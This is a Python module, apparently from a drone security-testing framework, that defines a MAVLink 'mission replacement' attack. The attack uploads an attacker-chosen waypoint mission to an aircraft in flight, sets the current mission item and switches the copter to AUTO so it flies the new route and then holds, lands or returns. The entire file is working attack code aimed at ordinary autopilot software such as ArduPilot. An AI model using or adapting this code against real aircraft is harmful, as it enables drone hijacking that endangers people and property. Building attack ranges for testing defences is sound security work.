"""Mission replacement: another mission is uploaded in flight, by the whole dialogue, and started."""

from __future__ import annotations

from typing import Final, Literal

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.params import Track
from skyrange.codec.mavlink import dialect as mav

_ENDS: Final = {
    "hold": mav.MAV_CMD_NAV_LOITER_UNLIM, "land": mav.MAV_CMD_NAV_LAND, "rtl": mav.MAV_CMD_NAV_RETURN_TO_LAUNCH
}  # fmt: skip


@sky.attack(
    "mavlink.mission_replace",
    technique="T0843",
    places=("radio_m",),
    persists="upload",
    effect="the aircraft flies a mission of the attacker in AUTO",
    position="by place: near the link with a radio, in the operator's network, or on board, where requests of "
    "the aircraft can be heard",
    equipment="a computer with a MAVLink library, such as any ground station",
    budget="one frame for each item, and three more",
    load="none, because what changes nothing uploads no items; the sham requests an item in place of each upload",
    content="the upload of the mission that the aircraft already has",
    placement="the same mission for another aircraft",
)
class MissionReplacement(sky.Script):
    """Uploads another mission to the flying aircraft and starts it."""

    track: Track = sky.param("Waypoints in order, each [east_m, north_m, up_m] in metres from the origin.")
    end: Literal["hold", "land", "rtl"] = sky.param(
        "What the mission ends with, at the last waypoint: hold it, land, or return.", default="land"
    )
    restart: bool = sky.param(
        "Whether it starts at its first item, in AUTO; else it goes on at the number of the present one.", default=True
    )

    def marks(self) -> dict[str, sky.Place]:
        return {"end of the false mission": self.track[-1]}

    def steps(self) -> list[sky.Step]:
        places = [sky.geodetic(self.origin, place) for place in self.track]
        # item 0 is home to ArduPilot, which ignores what is uploaded for it (AP_Mission.cpp,
        # AP_MISSION_FIRST_REAL_COMMAND)
        mission = [sky.MissionItem(mav.MAV_CMD_NAV_WAYPOINT, place) for place in (places[0], *places)]
        upload = sky.Upload((*mission, sky.MissionItem(_ENDS[self.end], places[-1])))
        start = [sky.Order(mav.MAV_CMD_DO_SET_MISSION_CURRENT, (1.0, 1.0)), sky.mode_order(mav.COPTER_MODE_AUTO)]
        return [upload, *start] if self.restart else [upload]
